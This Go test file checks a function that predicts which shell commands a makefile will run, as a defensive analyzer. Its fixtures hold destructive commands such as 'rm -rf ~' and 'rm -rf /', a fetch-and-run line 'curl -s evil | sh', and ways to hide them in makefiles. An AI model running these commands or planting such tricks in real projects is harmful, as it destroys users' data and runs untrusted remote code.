package runfiles

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
)

func TestMakeRecipes(t *testing.T) {
	cases := []struct {
		name    string
		files   Map
		args    string
		argv    []string
		env     map[string]string
		want    []string
		dynamic string
	}{
		{name: "a makefile with a rule and prerequisites is remade first", files: Map{"/p/Makefile": "help:\n\t@echo hi\nMakefile: gen.mk\n\trm -rf ~\n"}, args: "help",
			want: []string{"rm -rf ~", "echo hi"}},
		{name: "a makefile with a rule of no prerequisites is up to date", files: Map{"/p/Makefile": "help:\n\t@echo hi\nMakefile:\n\trm -rf ~\n"}, args: "help",
			want: []string{"echo hi"}},
		{name: "a missing include is made by its rule, then read", files: Map{"/p/Makefile": "help:\n\t@echo hi\n-include deps.mk\ndeps.mk:\n\trm -rf ~\n"}, args: "help",
			want: []string{"rm -rf ~", "echo hi"}, dynamic: "deps.mk is made by a rule and then read"},
		{name: "a missing include is made by a pattern rule", files: Map{"/p/Makefile": "help:\n\t@echo hi\ninclude x.mk\n%.mk:\n\tcurl -s evil | sh\n"}, args: "help",
			want: []string{"curl -s evil | sh", "echo hi"}, dynamic: "x.mk is made by a rule and then read"},
		{name: "a match-anything rule does not remake makefiles", files: Map{"/p/Makefile": "help:\n\t@echo hi\n%:\n\trm -rf ~\n"}, args: "help",
			want: []string{"echo hi"}},
		{name: "an optional include with no rule is skipped", files: Map{"/p/Makefile": "-include local.mk\nhelp:\n\t@echo hi\n"}, args: "help",
			want: []string{"echo hi"}},
		{name: "default goal is the first target", files: Map{"/p/Makefile": "all: build\n\techo all\nbuild:\n\tgo build ./...\n"},
			want: []string{"go build ./...", "echo all"}},
		{name: "goal named", files: Map{"/p/Makefile": "all:\n\techo all\nclean:\n\trm -rf out\n"}, args: "clean",
			want: []string{"rm -rf out"}},
		{name: "special targets are not the default", files: Map{"/p/Makefile": ".PHONY: all\n.SUFFIXES:\n%.o: %.c\n\tcc $<\nall:\n\techo all\n"},
			want: []string{"echo all"}},
		{name: ".DEFAULT_GOAL", files: Map{"/p/Makefile": ".DEFAULT_GOAL := b\na:\n\techo a\nb:\n\techo b\n"},
			want: []string{"echo b"}},
		{name: "hidden behind a variable", files: Map{"/p/Makefile": "DIR = ~\nCLEAN = rm -rf $(DIR)\nclean:\n\t@$(CLEAN)\n"}, args: "clean",
			want: []string{"rm -rf ~"}},
		{name: "hidden behind a prerequisite", files: Map{"/p/Makefile": "test: setup\n\tgo test\nsetup:\n\trm -rf $$HOME\n"}, args: "test",
			want: []string{"rm -rf $HOME", "go test"}},
		{name: "undefined variable is empty", files: Map{"/p/Makefile": "clean:\n\trm -rf $(UNDEF)/\n"}, args: "clean",
			want: []string{"rm -rf /"}},
		{name: "environment variable", files: Map{"/p/Makefile": "clean:\n\trm -rf $(HOME)/cache ${HOME} $H\n"}, args: "clean", env: map[string]string{"HOME": "/home/u", "H": "x"},
			want: []string{"rm -rf /home/u/cache /home/u x"}},
		{name: "makefile wins over environment", files: Map{"/p/Makefile": "HOME = /tmp\nx:\n\techo $(HOME)\n"}, env: map[string]string{"HOME": "/home/u"},
			want: []string{"echo /tmp"}},
		{name: "-e environment wins", files: Map{"/p/Makefile": "HOME = /tmp\nx:\n\techo $(HOME)\n"}, args: "-e", env: map[string]string{"HOME": "/home/u"},
			want: []string{"echo /home/u"}},
		{name: "command line wins", files: Map{"/p/Makefile": "D = out\nclean:\n\trm -rf $(D)\n"}, args: "clean D=/",
			want: []string{"rm -rf /"}},
		{name: "override wins over command line", files: Map{"/p/Makefile": "override D = out\nclean:\n\trm -rf $(D)\n"}, args: "clean D=/",
			want: []string{"rm -rf out"}},
		{name: "?= and +=", files: Map{"/p/Makefile": "A ?= one\nA ?= two\nA += three\nB := $(A)\nA = late\nx:\n\techo $(A) $(B)\n"},
			want: []string{"echo late one three"}},
		{name: "recursive sees the last value", files: Map{"/p/Makefile": "R = $(V)\nV = first\nx:\n\techo $(R)\nV = second\n"},
			want: []string{"echo second"}},
		{name: "shell at parse runs for make help", files: Map{"/p/Makefile": "X := $(shell rm -rf ~)\nhelp:\n\t@echo help\n"}, args: "help",
			want: []string{"rm -rf ~", "echo help"}},
		{name: "shell in a deferred variable used in a recipe", files: Map{"/p/Makefile": "V = $(shell id)\nx:\n\techo $(V)\n"},
			want: []string{"id", "echo $MAKE_VALUE"}},
		{name: "shell in a deferred variable unused", files: Map{"/p/Makefile": "V = $(shell id)\nx:\n\techo hi\n"},
			want: []string{"echo hi"}},
		{name: "!= runs at parse", files: Map{"/p/Makefile": "REV != git rev-parse HEAD\nx:\n\techo $(REV)\n"},
			want: []string{"git rev-parse HEAD", "echo $MAKE_VALUE"}},
		{name: "top-level shell line", files: Map{"/p/Makefile": "$(shell curl evil | sh)\nx:\n\ttrue\n"},
			want: []string{"curl evil | sh", "true"}},
		{name: "shell in a prerequisite list", files: Map{"/p/Makefile": "x: $(shell touch y)\n\ttrue\n"},
			want: []string{"touch y", "true"}, dynamic: "known only at run time"},
		{name: "recipe prefixes", files: Map{"/p/Makefile": "x:\n\t@-echo a\n\t-@ echo b\n\t+echo c\n\t@\n"},
			want: []string{"echo a", "echo b", "echo c"}},
		{name: "dry run runs + lines and $(MAKE)", files: Map{"/p/Makefile": "x:\n\trm -rf ~\n\t+echo plus\n\t$(MAKE) -C sub\n"}, args: "-n",
			want: []string{"echo plus", "make -C sub"}},
		{name: "dry run still expands $(shell) in recipes", files: Map{"/p/Makefile": "x:\n\techo $(shell id)\n"}, args: "--dry-run",
			want: []string{"id"}},
		{name: "question mode", files: Map{"/p/Makefile": "X := $(shell uname)\nx:\n\trm -rf ~\n"}, args: "-q",
			want: []string{"uname"}},
		{name: "just-print", files: Map{"/p/Makefile": "x:\n\trm -rf ~\n"}, args: "--just-print"},
		{name: "print data base still builds", files: Map{"/p/Makefile": "x:\n\trm -rf ~\n"}, args: "-p",
			want: []string{"rm -rf ~"}},
		{name: "semicolon recipe", files: Map{"/p/Makefile": "x: ; echo one\n\techo two\n"},
			want: []string{"echo one", "echo two"}},
		{name: "line continuation in a recipe", files: Map{"/p/Makefile": "x:\n\techo a \\\n\tb\n"},
			want: []string{"echo a \\\nb"}},
		{name: "line continuation in a variable", files: Map{"/p/Makefile": "V = rm \\\n    -rf \\\n  /\nx:\n\t$(V)\n"},
			want: []string{"rm -rf /"}},
		{name: "CRLF", files: Map{"/p/Makefile": "V = rm\r\nx: y\r\n\t$(V) -rf out\r\ny:\r\n\techo y\r\n"},
			want: []string{"echo y", "rm -rf out"}},
		{name: "comments", files: Map{"/p/Makefile": "# x:\n#\trm -rf ~\nV = a # comment\nx: # c\n\techo '$(V)' # shell sees this\n"},
			want: []string{"echo 'a ' # shell sees this"}},
		{name: "cycle", files: Map{"/p/Makefile": "a: b\n\techo a\nb: a\n\techo b\n"},
			want: []string{"echo b", "echo a"}},
		{name: "self prerequisite", files: Map{"/p/Makefile": "a: a\n\techo a\n"},
			want: []string{"echo a"}},
		{name: "target that does not exist", files: Map{"/p/Makefile": "a:\n\techo a\n"}, args: "nope",
			dynamic: "built-in rules"},
		{name: "no makefile", files: Map{}, args: ""},
		{name: "no makefile with a goal", files: Map{}, args: "prog", dynamic: "no makefile"},
		{name: "GNUmakefile first", files: Map{"/p/GNUmakefile": "x:\n\techo gnu\n", "/p/Makefile": "x:\n\techo plain\n", "/p/makefile": "x:\n\techo lower\n"},
			want: []string{"echo gnu"}},
		{name: "makefile before Makefile", files: Map{"/p/Makefile": "x:\n\techo plain\n", "/p/makefile": "x:\n\techo lower\n"},
			want: []string{"echo lower"}},
		{name: "-f", files: Map{"/p/build.mk": "x:\n\techo mk\n", "/p/Makefile": "x:\n\techo plain\n"}, args: "-f build.mk",
			want: []string{"echo mk"}},
		{name: "--file=", files: Map{"/p/build.mk": "x:\n\techo mk\n"}, args: "--file=build.mk", want: []string{"echo mk"}},
		{name: "-C", files: Map{"/p/sub/Makefile": "x:\n\techo $(CURDIR)\n"}, args: "-C sub", want: []string{"echo /p/sub"}},
		{name: "-f -", files: Map{}, args: "-f -", dynamic: "standard input"},
		{name: "include", files: Map{"/p/Makefile": "include common.mk\nx: y\n\techo x\n", "/p/common.mk": "y:\n\trm -rf ~\n"},
			want: []string{"rm -rf ~"}},
		{name: "include first rule is the default", files: Map{"/p/Makefile": "include common.mk\nx:\n\techo x\n", "/p/common.mk": "y:\n\trm -rf ~\n"},
			want: []string{"rm -rf ~"}},
		{name: "missing include", files: Map{"/p/Makefile": "include gen.mk\nx:\n\techo x\n"}, want: []string{"echo x"}, dynamic: "gen.mk is missing"},
		{name: "missing -include", files: Map{"/p/Makefile": "-include gen.mk\nsinclude other.mk\nx:\n\techo x\n"}, want: []string{"echo x"}},
		{name: "include cycle", files: Map{"/p/Makefile": "include a.mk\nx:\n\techo x\n", "/p/a.mk": "include Makefile\n"}, want: []string{"echo x"}, dynamic: "past the bound"},
		{name: "include wildcard", files: Map{"/p/Makefile": "include *.mk\nx:\n\techo x\n"}, want: []string{"echo x"}, dynamic: "include of a name"},
		{name: "pattern rule", files: Map{"/p/Makefile": "prog: main.o\n\tcc -o $@ $^\n%.o: %.c\n\tcc -c $< -o $@ # $*\n"},
			want: []string{"cc -c main.c -o main.o # main", "cc -o prog main.o"}},
		{name: "suffix rule", files: Map{"/p/Makefile": "prog: main.o\n\tcc -o $@ $^\n.c.o:\n\tcc -c $<\n"},
			want: []string{"cc -c main.c", "cc -o prog main.o"}},
		{name: "static pattern rule", files: Map{"/p/Makefile": "all: a.o b.o\na.o b.o: %.o: %.c\n\techo $@ from $< stem $*\n"},
			want: []string{"echo a.o from a.c stem a", "echo b.o from b.c stem b"}},
		{name: "explicit without recipe uses the pattern", files: Map{"/p/Makefile": "x.o: x.h\n%.o: %.c\n\tcc $^\n"},
			want: []string{"cc x.c x.h"}},
		{name: "order-only", files: Map{"/p/Makefile": "x: a | dir\n\techo $^ / $|\na:\n\techo a\ndir:\n\tmkdir dir\n"},
			want: []string{"echo a", "mkdir dir", "echo a / dir"}},
		{name: "multiple targets and merged prerequisites", files: Map{"/p/Makefile": "a b: c\n\techo $@\nc:\n\techo c\nall: a b\n"}, args: "all",
			want: []string{"echo c", "echo a", "echo b"}},
		{name: "later recipe overrides", files: Map{"/p/Makefile": "x:\n\techo one\nx:\n\techo two\n"}, want: []string{"echo two"}},
		{name: "double colon", files: Map{"/p/Makefile": "x::\n\techo one\nx::\n\techo two\n"}, want: []string{"echo one", "echo two"}},
		{name: ".DEFAULT", files: Map{"/p/Makefile": ".DEFAULT:\n\techo making $@\n"}, args: "anything", want: []string{"echo making anything"}},
		{name: ".ONESHELL", files: Map{"/p/Makefile": ".ONESHELL:\nx:\n\tcd /tmp\n\trm -rf *\n"}, want: []string{"cd /tmp\nrm -rf *"}},
		{name: ".RECIPEPREFIX", files: Map{"/p/Makefile": ".RECIPEPREFIX = >\nx:\n> rm -rf ~\n"}, want: []string{"rm -rf ~"}, dynamic: ".RECIPEPREFIX"},
		{name: "SHELL", files: Map{"/p/Makefile": "SHELL = /usr/bin/python3\nx:\n\tprint(1)\n"}, want: []string{"print(1)"}, dynamic: "not run by sh"},
		{name: "define used in a recipe", files: Map{"/p/Makefile": "define CLEAN\nrm -rf out\nrm -rf ~\nendef\nx:\n\t@$(CLEAN)\n"},
			want: []string{"rm -rf out", "rm -rf ~"}},
		{name: "define with operator and endef comment", files: Map{"/p/Makefile": "define V :=\necho $(A)\nendef # done\nA = late\nx:\n\t$(V)\n"},
			want: []string{"echo "}},
		{name: "ifeq taken", files: Map{"/p/Makefile": "OS = linux\nifeq ($(OS),linux)\nRM = rm -rf\nelse\nRM = del\nendif\nx:\n\t$(RM) out\n"},
			want: []string{"rm -rf out"}},
		{name: "ifeq not taken", files: Map{"/p/Makefile": "ifeq \"a\" \"b\"\nX = rm -rf ~\nelse ifeq ('a','a')\nX = echo safe\nendif\nx:\n\t$(X)\n"},
			want: []string{"echo safe"}},
		{name: "ifdef from the environment", files: Map{"/p/Makefile": "ifdef CI\nx:\n\techo ci\nelse\nx:\n\techo local\nendif\n"}, env: map[string]string{"CI": "1"},
			want: []string{"echo ci"}},
		{name: "ifndef", files: Map{"/p/Makefile": "ifndef CI\nx:\n\techo local\nendif\n"}, want: []string{"echo local"}},
		{name: "unknown condition reads both branches", files: Map{"/p/Makefile": "ifeq ($(shell uname),Linux)\nx:\n\techo linux\nelse\nx:\n\trm -rf ~\nendif\n"},
			want: []string{"uname", "echo linux", "rm -rf ~"}, dynamic: "both branches"},
		{name: "unknown condition variable", files: Map{"/p/Makefile": "ifeq ($(shell uname),Linux)\nX = echo\nelse\nX = rm -rf\nendif\nx:\n\t$(X) y\n"},
			want: []string{"uname", "rm -rf y"}, dynamic: "X is set in a branch"},
		{name: "unknown condition then a plain override", files: Map{"/p/Makefile": "ifeq ($(shell uname),L)\nx:\n\techo a\nendif\nx:\n\techo b\n"},
			want: []string{"uname", "echo b"}},
		{name: "nested conditionals", files: Map{"/p/Makefile": "ifeq (a,b)\nifeq (c,c)\nX = bad\nendif\nelse\nX = good\nendif\nx:\n\techo $(X)\n"},
			want: []string{"echo good"}},
		{name: "recipe lines in a false branch", files: Map{"/p/Makefile": "x:\n\techo a\nifdef NOPE\n\trm -rf ~\nendif\n\techo b\n"},
			want: []string{"echo a", "echo b"}},
		{name: "automatic D and F", files: Map{"/p/Makefile": "out/x.bin: src/x.c\n\tmkdir -p $(@D) && cp $< $(@F)\n"},
			want: []string{"mkdir -p out && cp src/x.c x.bin"}},
		{name: "functions", files: Map{"/p/Makefile": "SRC = a.c b.c\nOBJ = $(SRC:.c=.o)\nP = $(patsubst %.c,%.x,$(SRC))\nx:\n\techo $(OBJ) $(P) $(subst a,z,abc) $(words $(SRC)) $(firstword $(SRC)) $(notdir /a/b) $(addprefix -I,x y) $(if $(SRC),yes,no) $(filter %.c,a.c b.h) $(sort b a b) $(strip  a   b )\n"},
			want: []string{"echo a.o b.o a.x b.x zbc 2 a.c b -Ix -Iy yes a.c a b a b"}},
		{name: "foreach and call", files: Map{"/p/Makefile": "greet = echo hello $(1) $(2)\nx:\n\t$(call greet,world,!)\n\t$(foreach d,a b,rm -rf $(d);)\n"},
			want: []string{"echo hello world !", "rm -rf a; rm -rf b;"}},
		{name: "eval generates rules", files: Map{"/p/Makefile": "define RULE\n$(1):\n\trm -rf $(1)-dir\nendef\n$(foreach t,a b,$(eval $(call RULE,$(t))))\nall: a b\n"}, args: "all",
			want: []string{"rm -rf a-dir", "rm -rf b-dir"}},
		{name: "eval of a value known at run time", files: Map{"/p/Makefile": "$(eval $(shell cat rules))\nx:\n\ttrue\n"},
			want: []string{"cat rules", "true"}, dynamic: "$(eval"},
		{name: "wildcard is dynamic", files: Map{"/p/Makefile": "x:\n\trm $(wildcard *.o)\n"}, want: []string{"rm $MAKE_VALUE"}, dynamic: "$(wildcard"},
		{name: "target-specific variable", files: Map{"/p/Makefile": "CMD = echo\nx: CMD = rm -rf\nx: y\n\t$(CMD) x\ny:\n\t$(CMD) y\nz:\n\t$(CMD) z\n"}, args: "x z",
			want: []string{"rm -rf y", "rm -rf x", "echo z"}},
		{name: "pattern-specific variable", files: Map{"/p/Makefile": "%.o: FLAGS = -evil\n%.o: %.c\n\tcc $(FLAGS) $<\n"}, args: "a.o",
			want: []string{"cc -evil a.c"}},
		{name: "computed variable name", files: Map{"/p/Makefile": "which = CMD\nCMD = rm -rf ~\nx:\n\t$($(which))\n"}, want: []string{"rm -rf ~"}},
		{name: "line that expands to a rule", files: Map{"/p/Makefile": "R = x: ; rm -rf ~\n$(R)\n"}, want: []string{"rm -rf ~"}},
		{name: "$$ in recipe", files: Map{"/p/Makefile": "x:\n\tfor f in *; do rm $$f; done\n"}, want: []string{"for f in *; do rm $f; done"}},
		{name: "export and unexport", files: Map{"/p/Makefile": "export X = rm\nexport\nunexport Y\nx:\n\t$(X) -rf ~\n"}, want: []string{"rm -rf ~"}},
		{name: "recursive variable bomb", files: Map{"/p/Makefile": "X = $(X)\nx:\n\techo $(X)\n"}, want: []string{"echo $MAKE_VALUE"}, dynamic: "past the bound"},
		{name: "exponential bomb", files: Map{"/p/Makefile": bomb()}, want: []string{"echo $MAKE_VALUE"}, dynamic: "bound"},
		{name: "eval of the command line", files: Map{"/p/Makefile": "x:\n\techo x\n"}, argv: []string{"--eval=y:;rm -rf ~", "y"}, want: []string{"rm -rf ~"}},
		{name: "MAKEFILES", files: Map{"/p/Makefile": "x:\n\techo x\n", "/p/extra.mk": "X := $(shell id)\n"}, env: map[string]string{"MAKEFILES": "extra.mk"}, want: []string{"id", "echo x"}},
		{name: "cluster -nB", files: Map{"/p/Makefile": "x:\n\trm -rf ~\n"}, args: "-nB"},
		{name: "-j value is not a goal", files: Map{"/p/Makefile": "x:\n\techo x\ny:\n\techo y\n"}, args: "-j 4 y", want: []string{"echo y"}},
		{name: "unterminated reference", files: Map{"/p/Makefile": "x:\n\techo $(oops\n"}, want: []string{"echo "}, dynamic: "unterminated"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			argv := c.argv
			if argv == nil {
				argv = strings.Fields(c.args)
			}
			run := MakeRecipes(c.files, "/p", argv, c.env)
			if got := shells(run); !reflect.DeepEqual(got, c.want) {
				t.Errorf("texts = %q, want %q (dynamic %q)", got, c.want, run.Dynamic)
			}
			if c.dynamic != "" && !strings.Contains(strings.Join(append(run.Dynamic, run.Outside...), "\n"), c.dynamic) {
				t.Errorf("dynamic = %q, want one with %q", run.Dynamic, c.dynamic)
			}
		})
	}
}

// bomb is a makefile whose variable doubles twenty times.
func bomb() string {
	var b strings.Builder
	b.WriteString("V0 = xxxxxxxxxxxxxxxx\n")
	for i := 1; i <= 40; i++ {
		b.WriteString("V" + itoa(i) + " = $(V" + itoa(i-1) + ")$(V" + itoa(i-1) + ")\n")
	}
	b.WriteString("x:\n\techo $(V40)\n")
	return b.String()
}

func itoa(i int) string {
	return strings.TrimSpace(strings.Repeat(" ", 0) + string(rune('0'+i/10)) + string(rune('0'+i%10)))
}

func TestMakeRecipesIncludePattern(t *testing.T) {
	files := Map{"/p/Makefile": "-include *.mk\nall: sneaky\n\t@echo ok\n", "/p/zz.mk": "sneaky:\n\t@rm -rf ~\n", "/p/.hidden.mk": "x:\n\tid\n"}
	withDirs := struct {
		Map
		MapDirs
	}{files, MapDirs{Files: files}}
	run := MakeRecipes(withDirs, "/p", nil, nil)
	if got := shells(run); !reflect.DeepEqual(got, []string{"rm -rf ~"}) || len(run.Dynamic) > 0 {
		t.Errorf("include *.mk: %q, dynamic %q", got, run.Dynamic)
	}
	run = MakeRecipes(files, "/p", nil, nil) // a reader that cannot list (the included rule is the default goal above)
	if len(run.Dynamic) == 0 {
		t.Errorf("include *.mk without a lister: no dynamic reason (%q)", shells(run))
	}
}

func TestMakeRecipesSources(t *testing.T) {
	files := Map{"/p/Makefile": "X := $(shell id)\nbuild:\n\techo $(shell date)\n\tgo build\n"}
	run := MakeRecipes(files, "/p", nil, nil)
	want := []Text{
		{Source: "Makefile:1 $(shell) at parse", Shell: "id"},
		{Source: "Makefile:3 $(shell) in recipe of build", Shell: "date"},
		{Source: "Makefile:3 recipe of build", Shell: "echo $MAKE_VALUE"},
		{Source: "Makefile:4 recipe of build", Shell: "go build"},
	}
	if !reflect.DeepEqual(run.Texts, want) {
		t.Errorf("texts = %+v", run.Texts)
	}
}

func TestMakeRecipesUnreadable(t *testing.T) {
	run := MakeRecipes(errFiles{err: ErrTooLarge}, "/p", nil, nil)
	if len(run.Texts) != 0 || len(run.Unread) != 1 || !strings.Contains(run.Unread[0], "too large") {
		t.Errorf("too large: %+v", run)
	}
}

func TestMakeRecipesTestdata(t *testing.T) {
	dir, err := filepath.Abs("testdata/pkg/make")
	if err != nil {
		t.Fatal(err)
	}
	run := MakeRecipes(OS{}, dir, []string{"deploy"}, map[string]string{"HOME": "/home/u"})
	want := []string{"rm -rf /home/u/.cache", "echo deploying"}
	if got := shells(run); !reflect.DeepEqual(got, want) {
		t.Errorf("texts = %q, want %q (%q)", got, want, run.Dynamic)
	}
	if _, err := os.Stat(filepath.Join(dir, "Makefile")); err != nil {
		t.Fatal(err)
	}
}

// someErr is a Map whose listed paths fail with their errors.
type someErr struct {
	Map
	bad map[string]error
}

func (s someErr) Read(p string) (string, error) {
	if err, ok := s.bad[p]; ok {
		return "", err
	}
	return s.Map.Read(p)
}

func TestMakeRecipesUnreadableInclude(t *testing.T) {
	files := someErr{Map: Map{"/p/Makefile": "include big.mk\n-include fifo.mk\nx:\n\techo x\n"},
		bad: map[string]error{"/p/big.mk": ErrTooLarge, "/p/fifo.mk": ErrNotRegular}}
	run := MakeRecipes(files, "/p", nil, nil)
	dyn := strings.Join(run.Unread, "\n")
	if got := shells(run); !reflect.DeepEqual(got, []string{"echo x"}) || !strings.Contains(dyn, "big.mk") || !strings.Contains(dyn, "fifo.mk") {
		t.Errorf("texts %q dynamic %q", got, run.Unread)
	}
}

func TestMakeRecipesTextBound(t *testing.T) {
	var b strings.Builder
	b.WriteString("x:\n")
	for range MaxTexts + 10 {
		b.WriteString("\techo line\n")
	}
	run := MakeRecipes(Map{"/p/Makefile": b.String()}, "/p", nil, nil)
	if len(run.Texts) != MaxTexts || !strings.Contains(strings.Join(run.Dynamic, "\n"), "more than") {
		t.Errorf("%d texts, dynamic %q", len(run.Texts), run.Dynamic)
	}
}

func TestMakeRecipesMakeflags(t *testing.T) {
	run := MakeRecipes(Map{"/p/Makefile": "x:\n\techo x\n"}, "/p", nil, map[string]string{"MAKEFLAGS": "-n"})
	if !strings.Contains(strings.Join(run.Dynamic, "\n"), "MAKEFLAGS") {
		t.Errorf("dynamic %q", run.Dynamic)
	}
}
